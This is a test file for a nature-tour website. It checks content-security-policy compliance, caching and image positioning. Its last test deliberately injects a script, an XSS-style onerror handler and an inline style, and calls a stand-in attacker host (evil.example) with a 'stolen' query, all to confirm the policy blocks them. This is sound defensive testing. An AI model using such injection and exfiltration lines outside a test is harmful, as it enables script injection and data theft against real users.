import { expect, test } from "vitest"
import { ADMIN, signedInAdmin } from "#app/testing/fixtures/admin.ts"
import {
	DESK,
	hydrated,
	PHONE,
	siteAndBrowser,
	type Visitor,
	visitorWithWorker,
} from "#app/testing/fixtures/browser.ts"

const here = siteAndBrowser()

const VISITORS_PAGES = [
	"/",
	"/?search=heron",
	"/tour",
	"/tour?type=plant&species=24",
	"/tour?dialog=tour",
	"/species/1",
	"/blog",
	"/blog/spring-bird-count-71-species-in-one-long-wet-morning",
	"/waiver?redirect=parking",
	"/offline",
	"/auth",
]
const STAFFS_PAGES = [
	"/",
	"/tour",
	"/admin",
	"/admin/species/new",
	"/admin/species/1/edit",
	"/admin/import",
	"/admin/news",
	"/admin/news/new",
	"/admin/analytics",
	"/admin/security",
	"/admin/security/password",
	"/admin/qr-codes",
	"/admin/qr-codes/print",
]

const moved = () =>
	here.site.db
		.updateTable("species")
		.set({ image_position: "custom", image_offset: "12,-30" })
		.where("id", "=", 1)
		.execute()

/** The position of the species' picture. */
const positionOf = ({ page }: Visitor) =>
	page.locator("main img[fetchpriority=high]").evaluate((image) => {
		const { objectPosition, transform } = getComputedStyle(image)
		return { objectPosition, transform }
	})
const MOVED = { objectPosition: "62% 20%", transform: "matrix(1, 0, 0, 1, 12, -30)" }

test("a page that is revalidated with 304 still works, also after unrelated content has changed", async () => {
	const { page, consoleErrors, leave } = await visitorWithWorker(here, { ...PHONE, consent: false })
	await page.goto("/blog")
	await hydrated(page)
	const header = () => page.getByRole("banner").evaluate((one) => getComputedStyle(one).backgroundColor)
	const before = await header()
	// This invalidates all cached pages.
	await here.site.db.updateTable("species").set({ location_hints: "Elsewhere" }).where("id", "=", 3).execute()
	for (let times = 0; times < 2; times++) {
		const answer = await page.goto("/blog")
		expect(answer?.headers()["content-security-policy"]).toContain("script-src 'self'")
		await hydrated(page)
		expect(await header()).toBe(before)
	}
	expect(consoleErrors).toEqual([])
	await leave()
})

test("no public page violates its content security policy, whether opened by URL, twice, or by a link", async () => {
	await moved()
	const { page, consoleErrors, leave } = await visitorWithWorker(here, { ...PHONE, consent: false })
	for (const path of [...VISITORS_PAGES, ...VISITORS_PAGES]) {
		await page.goto(path)
		await hydrated(page)
	}
	await page.goto("/")
	await page.getByRole("link", { name: "Explore the tour" }).click()
	await page.getByRole("link", { name: "American Bittern" }).click()
	await page.getByRole("dialog").getByRole("link", { name: "Open full page" }).click()
	await page.getByRole("heading", { name: "American Bittern", level: 1, exact: true }).waitFor()
	expect(consoleErrors).toEqual([])
	await page.goto("/nope")
	await hydrated(page)
	expect(consoleErrors.filter((text) => !text.includes("404"))).toEqual([])
	await leave()
})

test("no staff page violates its content security policy", async () => {
	await signedInAdmin(here.site)
	const { page, consoleErrors, leave } = await visitorWithWorker(here, DESK)
	await page.goto("/auth?redirectTo=/admin")
	await hydrated(page)
	await page.getByLabel("Username").fill(ADMIN.username)
	await page.getByLabel("Password").fill(ADMIN.password)
	await page.getByRole("button", { name: "Login", exact: true }).click()
	await page.waitForURL("/admin")
	for (const path of STAFFS_PAGES) {
		await page.goto(path)
		await hydrated(page)
	}
	expect(consoleErrors).toEqual([])
	await leave()
})

test("a moved picture is positioned at once: without scripts, after client navigation, and while an editor moves it", async () => {
	await moved()
	const plain = await visitorWithWorker(here, { ...DESK, javaScriptEnabled: false })
	await plain.page.goto("/species/1")
	expect(await plain.page.locator("main img").first().getAttribute("data-style")).toBeTruthy()
	expect(plain.consoleErrors).toEqual([])
	await plain.leave()

	const { page, consoleErrors, ...rest } = await visitorWithWorker(here, DESK)
	await page.goto("/species/1")
	await hydrated(page)
	expect(await positionOf({ page, consoleErrors, ...rest })).toEqual(MOVED)
	await page.goto("/species/9")
	await page.getByRole("link", { name: "Back to Species Catalog" }).click()
	await page.getByRole("link", { name: "Common Loon" }).first().click()
	await page.getByRole("dialog").getByRole("link", { name: "Open full page" }).click()
	await page.waitForURL("/species/1")
	await expect.poll(() => positionOf({ page, consoleErrors, ...rest })).toEqual(MOVED)
	expect(consoleErrors).toEqual([])
	await rest.leave()
})

test("injected scripts, handlers and styles do not run, and can't send data elsewhere", async () => {
	const { page, consoleErrors, leave } = await visitorWithWorker(here, {
		...DESK,
		expectedErrors: /Content Security Policy/,
	})
	await page.goto("/tour")
	await hydrated(page)
	const outcome = await page.evaluate(async () => {
		const run = (html: string) => {
			const part = document.createElement("div")
			part.innerHTML = html
			document.body.append(part)
		}
		const script = document.createElement("script")
		script.textContent = "window.wasRun = 'a script'"
		document.body.append(script)
		run('<img src="/nothing.png" onerror="window.wasRun = \'a handler\'">')
		run('<p id="styled" style="color: rgb(1, 2, 3)">styled</p>')
		const sent = await fetch("https://evil.example/?stolen").then(
			() => "sent",
			() => "not sent",
		)
		await new Promise((resolve) => setTimeout(resolve, 500))
		const styled = document.getElementById("styled")
		return {
			wasRun: (window as { wasRun?: string }).wasRun,
			sent,
			color: styled && getComputedStyle(styled).color === "rgb(1, 2, 3)",
		}
	})
	expect(outcome).toEqual({ wasRun: undefined, sent: "not sent", color: false })
	expect(consoleErrors.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThanOrEqual(
		4,
	)
	await leave()
})
